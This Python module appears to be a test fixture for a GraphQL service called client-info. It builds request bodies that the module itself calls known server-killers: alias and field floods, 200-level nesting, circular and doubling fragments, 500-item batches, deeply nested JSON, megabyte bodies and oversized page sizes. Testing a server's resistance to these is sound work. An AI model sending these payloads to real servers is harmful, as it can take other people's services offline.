"""Requests that are known to bring a GraphQL server down, made for client-info's schema."""

import json
from typing import Any

from graphql import get_introspection_query

ID = "00000000-0000-4000-8000-000000000000"
IDS = [f"00000000-0000-4000-8000-{number:012x}" for number in range(100)]
CLIENTS = "query Many($ids: [UUID!]!) { clients(ids: $ids) %s }"
PAGE = f"""query Q($n: Int) {{ client(id: "{ID}") {{
  attributes(first: $n) {{ nodes {{ name }} }} }} }}"""
EVERYTHING = """{ id name age birthDate documents { id type number issueDate expiryDate }
  relatives { id relationType name age } attributes(first: 100) { nodes { group name value } } }"""


def request(query: str, **variables: Any) -> bytes:
    """The body of a POST."""
    return json.dumps({"query": query, "variables": variables}).encode()


def doubling(levels: int) -> str:
    """Each fragment asks for the next one twice: 2^levels fields."""
    spread = "".join(
        f"fragment f{level} on Client {{ ...f{level + 1} ...f{level + 1} }} "
        for level in range(levels)
    )
    return f'{{ client(id: "{ID}") {{ ...f0 }} }} {spread} fragment f{levels} on Client {{ name }}'


ATTACKS = {
    "aliases": request(
        "{" + " ".join(f'a{n}: client(id: "{ID}") {{ id }}' for n in range(150)) + "}"
    ),
    "depth": request(f'{{ client(id: "{ID}")' + " { documents" * 200 + " { id }" + " }" * 201),
    "fragments in a circle": request(
        "{ ...a } fragment a on Query { ...b } fragment b on Query { ...a }"
    ),
    "fragments that double": request(doubling(40)),
    "directives": request(f'{{ client(id: "{ID}") {{ id ' + "@include(if: true) " * 150 + "} }"),
    "unknown directives": request("{ __typename " + "@a" * 450 + " }"),
    "one field many times": request(f'{{ client(id: "{ID}") {{ ' + "name " * 900 + "} }"),
    "one field many times, in fragments": request(
        f'{{ client(id: "{ID}") {{ ' + "... { name } " * 200 + "} }"
    ),
    "one field many times, unused": request(
        f'{{ client(id: "{ID}") {{ id }} }} fragment a on Client {{ ' + "name " * 900 + "}"
    ),
    "a batch": b"[" + b",".join([request("{ __typename }")] * 500) + b"]",
    "introspection": request(get_introspection_query()),
    "introspection of one type": request('{ __type(name: "Client") { fields { name } } }'),
    "many tokens": request("{" + " __typename" * 5000 + " }"),
    "many comments": request("#\n" * 8000 + "{ __typename }"),
    "a large body": request("{ __typename }", text="x" * 2**20),
    "many operations": request(" ".join(f"query q{n} {{ __typename }}" for n in range(100))),
    "a long list": request(CLIENTS % "{ id }", ids=IDS * 15),
    "a long list, written out": request(f"{{ clients(ids: {json.dumps(IDS * 2)}) {{ id }} }}"),
    "deep variables": b'{"query": "{ __typename }", "variables": {"a": '
    + b"[" * 400
    + b"]" * 400
    + b"}}",
    "a deep body": b"[" * 60_000,
    "a deep value": request(f"{{ client(id: {'[' * 400}{']' * 400}) {{ id }} }}"),
    "a page too big": request(
        f'{{ client(id: "{ID}") {{ attributes(first: 1000000) {{ nodes {{ name }} }} }} }}'
    ),
    "a page too big, by a variable": request(
        PAGE,
        n=1_000_000,
    ),
    "a page without end": request(
        PAGE,
        n=1e308,
    ),
    "a dear query": request(CLIENTS % EVERYTHING, ids=IDS),
}
